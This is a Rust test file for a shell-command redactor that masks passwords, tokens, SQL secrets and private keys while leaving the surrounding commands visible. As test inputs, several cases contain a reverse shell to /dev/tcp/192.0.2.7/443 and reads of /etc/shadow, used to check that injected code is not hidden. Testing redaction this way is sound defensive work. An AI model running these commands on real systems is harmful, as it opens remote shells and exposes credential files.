//! Tests of texts that a shell reads.
//! Each secret here is made up.

use super::*;

fn check_scripts(table: &[(&str, &str)]) {
    let mut wrong = Vec::new();
    for (script, expected) in table {
        let argument = arguments(&["bash", "-c", script]);
        for (shown, expected) in [
            (redact_command(script), (*expected).to_owned()),
            (argument, format!("bash -c {expected}")),
        ] {
            if shown != expected {
                wrong.push((shown, expected));
            }
        }
    }
    assert!(wrong.is_empty(), "shown and expected: {wrong:#?}");
}

#[test]
fn a_program_is_seen_behind_every_sign_between_commands() {
    check_scripts(&[
        ("N=$(mysql -phunter2 db)", "N=$(mysql -p*** db)"),
        ("N=\"$(mysql -phunter2 db)\" x", "N=\"$(mysql -p*** db)\" x"),
        ("echo `mysql -phunter2 db` x", "echo `mysql -p*** db` x"),
        ("zcat d.gz|mysql -phunter2 db", "zcat d.gz|mysql -p*** db"),
        ("cd /x&&mysql -phunter2 d", "cd /x&&mysql -p*** d"),
        (
            "test -f x;mysqldump -phunter2 db",
            "test -f x;mysqldump -p*** db",
        ),
        ("(mysql -phunter2 db)", "(mysql -p*** db)"),
        ("{ mysql -phunter2 db; }", "{ mysql -p*** db; }"),
        (
            "if true; then mysql -phunter2; fi",
            "if true; then mysql -p***; fi",
        ),
        ("id\nmysql -phunter2", "id\nmysql -p***"),
        (
            "mysql -h $(cat h) -phunter2 db",
            "mysql -h $(cat h) -p*** db",
        ),
        ("mysql 2>&1 -phunter2 db", "mysql 2>&1 -p*** db"),
        ("mysql -px;cat /etc/shadow", "mysql -p***;cat /etc/shadow"),
        (
            "mysql -px&bash -i>&/dev/tcp/h/1",
            "mysql -p***&bash -i>&/dev/tcp/h/1",
        ),
        (
            "app --token x;cat /etc/shadow",
            "app --token ***;cat /etc/shadow",
        ),
        (
            "ssh -o 'ProxyCommand=sshpass -p hunter2 ssh -W %h:%p gw' h",
            "ssh -o 'ProxyCommand=sshpass -p *** ssh -W %h:%p gw' h",
        ),
    ]);
    for (line, expected) in [
        (
            &["rsync", "-a", "--rsh=sshpass -p hunter2 ssh"][..],
            "rsync -a --rsh=sshpass -p *** ssh",
        ),
        (
            &["su", "bob", "--command=mysql -phunter2 db"],
            "su bob --command=mysql -p*** db",
        ),
        (
            &["su", "-c", "(mysql -phunter2 db)"],
            "su -c (mysql -p*** db)",
        ),
    ] {
        assert_eq!(arguments(line), expected);
    }
}

#[test]
fn passwords_in_sql_and_before_what_reads_them_are_masked() {
    check_scripts(&[
        (
            "psql -c \"ALTER USER postgres PASSWORD 'hunter2'\"",
            "psql -c \"ALTER USER postgres PASSWORD '***'\"",
        ),
        (
            "mysql -e \"CREATE USER bob IDENTIFIED BY 'hun ter2'\" x",
            "mysql -e \"CREATE USER bob IDENTIFIED BY '***'\" x",
        ),
        (
            "mysql -e \"SET PASSWORD = 'hunter2'\"",
            "mysql -e \"SET PASSWORD = '***'\"",
        ),
        (
            "mysql -e \"SET PASSWORD = PASSWORD('hunter2')\"",
            "mysql -e \"SET PASSWORD = PASSWORD('***')\"",
        ),
        ("echo root:hunter2 | chpasswd", "echo *** | chpasswd"),
        ("echo -n hunter2 | sudo -S id", "echo -n *** | sudo -S id"),
        (
            "id; echo 'my hunter2'|passwd --stdin bob",
            "id; echo '***'|passwd --stdin bob",
        ),
        (
            "printf '%s' \"hunter2\" | sudo cryptsetup open x y",
            "printf '***' \"***\" | sudo cryptsetup open x y",
        ),
        (
            "echo a; echo hunter2 | chpasswd; echo b",
            "echo a; echo *** | chpasswd; echo b",
        ),
    ]);
}

#[test]
fn code_is_no_value() {
    check_scripts(&[
        (
            "TOKEN=\"$(bash -i >& /dev/tcp/192.0.2.7/443 0>&1)\"",
            "TOKEN=\"$(bash -i >& /dev/tcp/192.0.2.7/443 0>&1)\"",
        ),
        (
            "TOKEN=\"`bash -i >& /dev/tcp/192.0.2.7/443 0>&1`\"",
            "TOKEN=\"`bash -i >& /dev/tcp/192.0.2.7/443 0>&1`\"",
        ),
        (
            "TOKEN=\"abc$(cat /etc/shadow)\" x",
            "TOKEN=\"***$(cat /etc/shadow)\" x",
        ),
        ("TOKEN=$(cat /etc/shadow) x", "TOKEN=$(cat /etc/shadow) x"),
        (
            "x --password \"$(cat /etc/shadow)\" y",
            "x --password \"$(cat /etc/shadow)\" y",
        ),
        (
            "# token='\nbash -i >& /dev/tcp/192.0.2.7/443 0>&1",
            "# token='***\nbash -i >& /dev/tcp/192.0.2.7/443 0>&1",
        ),
        (
            "# --token 'a\nbash -i >& /dev/tcp/192.0.2.7/443 0>&1",
            "# --token ***\nbash -i >& /dev/tcp/192.0.2.7/443 0>&1",
        ),
    ]);
}

#[test]
fn json_is_read_with_spaces_lists_and_objects() {
    check_scripts(&[
        (
            "curl -d '{\"password\" : \"x y\", \"a\": 1}' h",
            "curl -d '{\"password\" : \"***\", \"a\": 1}' h",
        ),
        (
            "curl -d '{\"password\":{\"value\":\"x\"},\"a\":\"b\"}' h",
            "curl -d '{\"password\":{\"value\":\"***\"},\"a\":\"b\"}' h",
        ),
        (
            "curl -d '{\"password\":[\"x\",\"y\"],\"a\":\"b\"}' h",
            "curl -d '{\"password\":[\"***\",\"***\"],\"a\":\"b\"}' h",
        ),
        (
            "kubectl -f '{\"secret\":{\"secretName\":\"x\"}}'",
            "kubectl -f '{\"secret\":{\"secretName\":\"x\"}}'",
        ),
        (
            "curl -d '{\n  \"password\":\n  \"x\"\n}' h",
            "curl -d '{\n  \"password\":\n  \"***\"\n}' h",
        ),
    ]);
}

#[test]
fn a_private_key_is_masked_and_what_stands_behind_it_is_told() {
    for (script, expected) in [
        (
            "echo '-----BEGIN RSA PRIVATE KEY-----\nabc+/=\n-----END RSA PRIVATE KEY-----'; cat /etc/shadow",
            "echo '***'; cat /etc/shadow",
        ),
        (
            "# -----BEGIN PRIVATE KEY-----\n; cat /etc/shadow",
            "# ***\n; cat /etc/shadow",
        ),
        (
            "# -----BEGIN PRIVATE KEY-----\ncat /etc/shadow",
            "# ***\ncat /etc/shadow",
        ),
        (
            "# -----BEGIN PRIVATE KEY-----\ncat /etc/shadow\n-----END PRIVATE KEY-----",
            "# ***\ncat /etc/shadow\n-----END PRIVATE KEY-----",
        ),
        ("x -----BEGIN PRIVATE KEY-----abc", "x ***"),
        (
            "-----BEGIN -----BEGIN PRIVATE KEY-----\nx",
            "-----BEGIN ***",
        ),
    ] {
        assert_eq!(redact_command(script), expected);
        assert_eq!(redact_command(expected), expected);
    }
}

#[test]
fn all_lines_of_a_private_key_are_masked_also_where_its_end_is_cut_off() {
    let line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ";
    let headers = "Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123456789ABCDEF\n\n";
    for (name, headers) in [
        ("RSA PRIVATE KEY", headers),
        ("PGP PRIVATE KEY BLOCK", "Version: GnuPG v2.2.40\n\n"),
        ("OPENSSH PRIVATE KEY", ""),
    ] {
        let body = format!("{line}\n{line}\nabc=\n");
        let key = format!("tee -----BEGIN {name}-----\n{headers}{body}-----END {name}-----\nid");
        let cut = format!("tee -----BEGIN {name}-----\n{body}");

        assert_eq!(redact_command(&key), "tee ***\nid");
        assert_eq!(redact_command(&cut), "tee ***\n");
    }
}

#[test]
fn a_quote_in_a_comment_has_no_other() {
    check_scripts(&[
        (
            "id # it's --token x y\ncat '/etc/shadow'",
            "id # it's --token *** y\ncat '/etc/shadow'",
        ),
        (
            "id # token='a b\nbash -c 'id'",
            "id # token='***\nbash -c 'id'",
        ),
        ("x a#b --token 'c d'", "x a#b --token '***'"),
    ]);
}

#[test]
fn quotes_are_letters_where_arguments_were_joined() {
    for (line, expected) in [
        (
            "notify Bob's --token hunter2 Ann's",
            "notify Bob's --token *** Ann's",
        ),
        (
            "curl -H Authorization: Odd hunter2 https://h",
            "curl -H Authorization: *** *** https://h",
        ),
        (
            "curl -H Cookie: lang=en; sid=hunter2 h",
            "curl -H Cookie: *** *** h",
        ),
        (
            "curl https://h/?a=1&b=2 -u bob:hunter2",
            "curl https://h/?a=1&b=2 -u bob:***",
        ),
        (
            "sh -c mysql -px;cat /etc/shadow",
            "sh -c mysql -p***;cat /etc/shadow",
        ),
        ("mysql -phunt&er2;x db", "mysql -p*** db"),
    ] {
        assert_eq!(redact_joined(line), expected);
    }
}
